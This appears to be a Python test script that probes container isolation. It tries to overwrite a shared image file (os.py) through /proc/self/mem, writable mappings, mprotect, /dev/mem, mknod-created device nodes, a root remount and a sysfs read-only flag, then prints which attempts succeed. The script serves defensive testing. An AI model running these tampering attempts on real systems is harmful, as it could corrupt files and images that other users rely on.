# Tries what code in a container could try to change a file of its image for others; prints the attempts that worked.
import ctypes, mmap, os, stat
path = os.__file__
libc = ctypes.CDLL(None, use_errno=True)
mapping = mmap.mmap(os.open(path, os.O_RDONLY), 4096, mmap.MAP_SHARED, mmap.PROT_READ)
address = None
for line in open("/proc/self/maps"):
    if line.rstrip().endswith(path) and " r--s " in line:
        address = int(line.split("-")[0], 16)
def memory():
    with open("/proc/self/mem", "r+b", buffering=0) as memory:
        memory.seek(address)
        memory.write(b"broken")
def writable_mapping():
    mmap.mmap(os.open(path, os.O_RDONLY), 4096, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE)
def protect():
    if libc.mprotect(ctypes.c_void_p(address), 4096, 3):
        raise OSError(ctypes.get_errno(), "mprotect")
def node(kind, major, minor):
    name = f"/tmp/{major}-{minor}"
    os.mknod(name, kind | 0o600, os.makedev(major, minor))
    os.open(name, os.O_RDWR)
def disk(name):
    major, minor = map(int, open(f"/sys/block/{name}/dev").read().split(":"))
    node(stat.S_IFBLK, major, minor)
def remount(flags):
    if libc.mount(b"none", b"/", None, flags, None):
        raise OSError(ctypes.get_errno(), "mount")
attempts = {
    "memory of the process": memory,
    "a writable mapping": writable_mapping,
    "mprotect": protect,
    "/dev/mem": lambda: os.open("/dev/mem", os.O_RDWR),
    "a node of /dev/mem": lambda: node(stat.S_IFCHR, 1, 1),
    "a node of pmem0": lambda: disk("pmem0"),
    "a node of some block device": lambda: node(stat.S_IFBLK, 259, 0),
    "a remount": lambda: remount(32),
    "sysfs": lambda: open("/sys/block/pmem0/ro", "w").write("0"),
}
for name, attempt in attempts.items():
    try:
        attempt()
        print("worked:", name)
    except OSError as error:
        print("refused:", name, error)
assert address
with open(path, "r+b") as file:
    file.write(b"broken")
print("own copy:", open(path, "rb").read(6))
